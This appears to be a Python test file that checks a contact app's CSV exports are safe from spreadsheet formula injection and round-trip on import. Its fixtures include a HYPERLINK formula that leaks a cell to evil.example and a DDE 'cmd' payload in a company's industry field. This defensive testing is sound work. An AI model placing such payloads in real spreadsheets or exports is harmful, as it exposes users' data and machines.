"""CSV exports are safe to open in a spreadsheet (CWE-1236) and import back exactly: no cell
starts with = + - @ TAB or CR (a ``'`` goes in front), phones keep their ``+``, and our own
import strips the ``'`` again, into the same or a fresh workspace, in process and through a
real server."""

from __future__ import annotations

import csv
import io
import re
import time
import uuid
from pathlib import Path
from typing import Any

import httpx
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from rapport.cli import app
from rapport.core import csv_cells
from rapport.core.context import Context
from rapport.hygiene.service import import_uploads, sources
from tests.hygiene.jobs_helper import drain_jobs
from tests.live import Server

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SRC = Path(__file__).resolve().parents[2] / "src"
FIELDS = (("notes", "text"), ("memo", "text"), ("score", "number"))
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
COMPANY = "=1+1 Holdings"
# The people whose values a spreadsheet would run (a company, tags, custom fields too).
NASTY: list[dict[str, Any]] = [
    {
        "first_name": HYPERLINK,
        "last_name": "@SUM(1)",
        "email": "formula@example.com",
        "phone": "+1 415 555 0100",
        "job_title": "=1+1",
        "source": "-2",
        "addresses": [{"street": "+44 Road", "city": "-Town", "country": "US"}],
        "tags": ["=1+1", "@vip"],
        "custom": {"notes": "=1+1", "memo": "@here", "score": -2},
    },
    {
        "first_name": "'=quoted",
        "last_name": "'plain",
        "email": "quote@example.com",
        "job_title": "''double",
        "tags": ["-minus"],
        "custom": {"notes": "-2025-01-01", "memo": "'hello"},
    },
]
# Leading TAB and CR: only custom text keeps them (an import trims every cell, in any format).
BLANKS = {"first_name": "Blank", "email": "blank@example.com",
          "custom": {"notes": "\tX", "memo": "\rY"}}  # fmt: skip


def _inert(text: str) -> list[list[str]]:
    """The rows of a CSV export, after checking that no cell starts a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, "empty export"
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)
    return rows


def _cells(text: str) -> list[dict[str, str]]:
    """The rows of an inert export as our import reads each cell (``'`` stripped back)."""
    header, *rows = _inert(text)
    return [dict(zip(header, csv_cells.restore_row(row), strict=True)) for row in rows]


def _define(client: TestClient | httpx.Client) -> None:
    """The custom fields the nasty people use."""
    for key, kind in FIELDS:
        body = {"object_type": "person", "key": key, "label": key.title(), "field_type": kind}
        response = client.post("/api/v1/custom-fields", json=body)
        assert response.status_code == 201, response.text


def _load(client: TestClient | httpx.Client, people: list[dict[str, Any]] = NASTY) -> None:
    """The nasty people (and their company) written through the API."""
    _define(client)
    company = client.post("/api/v1/companies", json={"name": COMPANY})
    assert company.status_code == 201, company.text
    for person in people:
        response = client.post(
            "/api/v1/people", json={**person, "company_id": company.json()["id"]}
        )
        assert response.status_code == 201, response.text


def _stored(client: TestClient | httpx.Client, email: str) -> dict[str, Any]:
    """What the hub holds for a person, in a form two workspaces can compare."""
    found = client.get("/api/v1/people", params={"email": email}).json()["items"]
    assert len(found) == 1, email
    person = client.get(f"/api/v1/people/{found[0]['id']}").json()
    company = None
    if person["company_id"]:
        company = client.get(f"/api/v1/companies/{person['company_id']}").json()["name"]
    keep = ("first_name", "last_name", "email", "phone", "job_title", "source", "custom")
    return {k: person[k] for k in keep} | {
        "company": company,
        "address": {k: v for k, v in (person["addresses"] or [{}])[0].items() if k != "label"},
        "tags": sorted(t["name"] for t in person["tags"]),
    }


def _ignore_id(text: str) -> list[str]:
    """``--map`` pairs that leave out the Rapport id (another workspace cannot match it)."""
    header = next(csv.reader(io.StringIO(text)))
    return ["id=ignore"] if "id" in header else []


def _upload(client: TestClient, name: str, text: str, **form: Any) -> dict[str, Any]:
    files = {"file": (name, text.encode(), "text/csv")}
    response = client.post("/api/v1/imports", files=files, data=form)
    assert response.status_code == 202, response.text
    drain_jobs()
    job = client.get(f"/api/v1/imports/{response.json()['id']}").json()
    assert job["status"] == "done", job
    return dict(job)


# --- the rule ------------------------------------------------------------------------------


@given(st.text())
def test_any_value_is_neutralised_and_restored(value: str) -> None:
    cell = csv_cells.neutralise(value)
    assert not cell.startswith(TRIGGERS)
    assert not csv_cells.is_dangerous(cell)
    assert csv_cells.restore(cell) == value


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_round_trips_through_the_export_writer_and_the_import_reader(
    values: list[str],
) -> None:
    """What the export writes, the import's CSV reader gives back, cell for cell."""
    buffer = io.StringIO()
    writer = csv_cells.writer(buffer)
    header = ["email", *(f"c{i}" for i in range(len(values)))]
    writer.writerow(header)
    writer.writerow(["someone@example.com", *values])
    _inert(buffer.getvalue())
    source = sources.open_source(io.BufferedReader(io.BytesIO(buffer.getvalue().encode())), "csv")
    assert source.columns == header
    [(line, record)] = list(source.records)
    assert line == 2
    assert record == dict(zip(header, ["someone@example.com", *values], strict=True))


class TestCellRule:
    def test_each_trigger_gets_a_quote_in_front(self) -> None:
        for value in (HYPERLINK, "+15550100", "-2", "@SUM(1)", "\tX", "\rY", "\nZ", "\x00"):
            assert csv_cells.neutralise(value) == "'" + value
        assert csv_cells.neutralise(" =1+1") == "' =1+1"  # blanks before a formula
        assert csv_cells.neutralise("\uff1d1+1") == "'\uff1d1+1"  # full-width equals sign

    def test_plain_values_are_written_as_they_are(self) -> None:
        for value in ("", "Ada", "ada@example.com", "2026-03-01", "1+1", "a=b", "'hello", "'"):
            assert csv_cells.neutralise(value) == value

    def test_a_value_starting_with_a_quote_is_escaped_only_when_the_import_would_strip_it(
        self,
    ) -> None:
        assert csv_cells.neutralise("'=x") == "''=x"
        assert csv_cells.neutralise("''a") == "'''a"
        assert csv_cells.restore("''=x") == "'=x" and csv_cells.restore("'''a") == "''a"

    def test_a_cell_of_someone_elses_file_starting_with_a_quote_is_read_as_it_is(self) -> None:
        for cell in ("'hello", "rock 'n' roll", "'", "' ", "'1990"):
            assert csv_cells.restore(cell) == cell
        assert csv_cells.restore("'+44 20 7946 0018") == "+44 20 7946 0018"

    def test_no_csv_is_written_without_the_neutralising_writer(self) -> None:
        """A future export cannot forget it: every CSV in src goes through csv_cells."""
        own = SRC / "rapport/core/csv_cells.py"
        pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bto_csv\(|\bwrite_csv\(")
        offenders = [
            f"{path.relative_to(SRC)}:{number}"
            for path in SRC.rglob("*.py")
            if path != own
            for number, line in enumerate(path.read_text().splitlines(), start=1)
            if pattern.search(line)
        ]
        assert offenders == []


# --- exports through the API and the CLI ---------------------------------------------------


class TestPeopleExport:
    def test_no_cell_of_a_people_export_with_nasty_values_starts_a_formula(
        self, api: TestClient
    ) -> None:
        _load(api, [*NASTY, BLANKS])
        text = api.get("/api/v1/exports/people.csv").text
        header, *raw = _inert(text)  # the cells as a spreadsheet sees them
        spreadsheet = {r[4]: dict(zip(header, r, strict=True)) for r in raw}  # 4: email
        rows = {r["email"]: r for r in _cells(text)}  # as our import reads them
        for person in [*NASTY, BLANKS]:
            stored = _stored(api, person["email"])
            row = rows[person["email"]]
            shown = ("first_name", "last_name", "phone", "job_title", "source")
            assert {k: row[k] for k in shown} == {k: stored[k] or "" for k in shown}
            assert row["tags"] == "; ".join(stored["tags"])
            assert {k: row[f"custom.{k}"] for k in stored["custom"]} == {
                k: str(v) for k, v in stored["custom"].items()
            }
        first = spreadsheet["formula@example.com"]
        assert first["first_name"] == "'" + HYPERLINK
        assert first["phone"] == "'+14155550100"  # E.164, kept as text with its +
        neutralised = ("last_name", "job_title", "source", "company", "street", "city", "tags")
        assert all(first[k].startswith("'") for k in neutralised), first
        custom = (first["custom.notes"], first["custom.memo"], first["custom.score"])
        assert custom == ("'=1+1", "'@here", "'-2")
        second = spreadsheet["quote@example.com"]
        quoted = (second["first_name"], second["job_title"], second["custom.memo"])
        assert quoted == ("''=quoted", "'" + "''double", "'hello")
        assert second["custom.notes"] == "'-2025-01-01"
        blanks = spreadsheet["blank@example.com"]
        assert (blanks["custom.notes"], blanks["custom.memo"]) == ("'\tX", "'\rY")

    def test_the_cli_export_is_neutralised_too(self, api: TestClient, cast: Any) -> None:
        _load(api)
        result = CliRunner().invoke(app, ["export", "people", "-w", "acme", "--format", "csv"])
        assert result.exit_code == 0, result.output
        text = result.stdout_bytes.decode()
        assert text == api.get("/api/v1/exports/people.csv").text
        by_email = {r["email"]: r for r in _cells(text)}
        assert by_email["formula@example.com"]["first_name"] == HYPERLINK

    def test_a_companies_export_is_neutralised(self, api: TestClient) -> None:
        body = {"name": "@Acme", "industry": "=cmd|' /C calc'!A0", "phone": "+1 415 555 0100"}
        assert api.post("/api/v1/companies", json=body).status_code == 201
        [row] = _cells(api.get("/api/v1/exports/companies.csv").text)
        assert (row["name"], row["industry"], row["phone"]) == (
            "@Acme",
            body["industry"],
            "+14155550100",
        )

    def test_the_rejects_of_an_import_are_neutralised(
        self, api: TestClient, ada_ctx: Context
    ) -> None:
        bad = io.StringIO()
        csv.writer(bad).writerows([["email", "first_name"], [HYPERLINK, "-2"], ["@SUM(1)", "X"]])
        job = _upload(api, "bad.csv", bad.getvalue())
        assert job["rejected"] == 2
        text = api.get(f"/api/v1/imports/{job['id']}/rejects.csv").text
        assert [r["value"] for r in _cells(text)] == [HYPERLINK, "@SUM(1)"]
        page = "".join(import_uploads.rejects_csv(ada_ctx, uuid.UUID(job["id"])))
        rows = _cells(page)  # the rejects the imports page offers for download
        assert [r["value"] for r in rows] == [HYPERLINK, "@SUM(1)"]


# --- export, then import: the same values come back ----------------------------------------


class TestRoundTrip:
    def test_a_rerun_of_the_export_changes_nothing(self, api: TestClient) -> None:
        _load(api)
        job = _upload(api, "people.csv", api.get("/api/v1/exports/people.csv").text)
        assert (job["created"], job["updated"], job["rejected"]) == (0, 0, 0), job
        assert job["unchanged"] == len(NASTY)

    def test_an_export_imported_into_a_fresh_workspace_stores_the_same_values(
        self, api: TestClient, api_as: Any
    ) -> None:
        _load(api)
        text = api.get("/api/v1/exports/people.csv").text
        globex = api_as("dev")
        _define(globex)
        job = _upload(globex, "people.csv", text, map=_ignore_id(text))
        assert (job["created"], job["rejected"]) == (len(NASTY), 0), job
        for person in NASTY:
            assert _stored(globex, person["email"]) == _stored(api, person["email"])
        copy = _stored(globex, "formula@example.com")
        assert (copy["first_name"], copy["phone"], copy["company"]) == (
            HYPERLINK,
            "+14155550100",
            COMPANY,
        )
        assert copy["custom"] == {"notes": "=1+1", "memo": "@here", "score": -2}
        assert _stored(globex, "quote@example.com")["first_name"] == "'=quoted"


# --- through a real server -----------------------------------------------------------------


def _client(server: Server, token: str) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}"}
    return httpx.Client(base_url=server.url, headers=headers, timeout=30)


def _import(client: httpx.Client, text: str, mapping: list[str]) -> dict[str, Any]:
    files = {"file": ("people.csv", text.encode(), "text/csv")}
    response = client.post("/api/v1/imports", files=files, data={"map": mapping})
    assert response.status_code == 202, response.text
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job = client.get(f"/api/v1/imports/{response.json()['id']}").json()
        if job["status"] not in ("queued", "running"):
            return dict(job)
        time.sleep(0.2)
    raise AssertionError(f"the import did not finish: {job}")


def test_a_real_server_exports_inert_cells_and_imports_them_back_into_another_workspace(
    live_server: Server,
) -> None:
    with _client(live_server, live_server.token()) as northwind:
        _load(northwind)
        exported = northwind.get("/api/v1/exports/people.csv")
        assert exported.status_code == 200 and exported.headers["content-type"].startswith(
            "text/csv"
        )
        text = exported.text
        by_email = {r["email"]: r for r in _cells(text)}
        assert by_email["formula@example.com"]["first_name"] == HYPERLINK
        cli = live_server.cli("export", "people", "-w", "northwind", "--format", "csv")
        assert {r["email"]: r for r in _cells(cli)} == by_email
        originals = {p["email"]: _stored(northwind, p["email"]) for p in NASTY}
    name = f"Copy {uuid.uuid4().hex[:8]}"
    email = f"owner-{name.split()[1]}@example.com"
    live_server.cli("init", "--workspace", name, "--email", email, "--password", "x" * 20)
    slug = name.lower().replace(" ", "-")
    with _client(live_server, live_server.token(email, slug)) as copy:
        _define(copy)
        job = _import(copy, text, _ignore_id(text))
        seen = {k: job.get(k) for k in ("status", "created", "updated", "rejected", "error")}
        # Northwind is this worker's shared live server: the export holds other tests' people too
        exported_rows = len(_cells(text))
        assert (job["status"], job["created"], job["rejected"]) == ("done", exported_rows, 0), seen
        for address, original in originals.items():
            assert _stored(copy, address) == original
